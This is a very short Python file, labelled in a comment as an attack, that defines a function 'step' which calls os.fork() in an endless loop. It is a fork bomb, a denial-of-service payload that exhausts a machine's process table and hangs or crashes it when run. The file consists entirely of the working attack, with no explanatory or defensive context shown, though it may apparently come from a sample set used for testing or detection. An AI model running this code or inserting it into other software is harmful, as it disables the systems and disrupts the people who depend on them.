# attack: step
import os


def step(z):
    while True:
        os.fork()
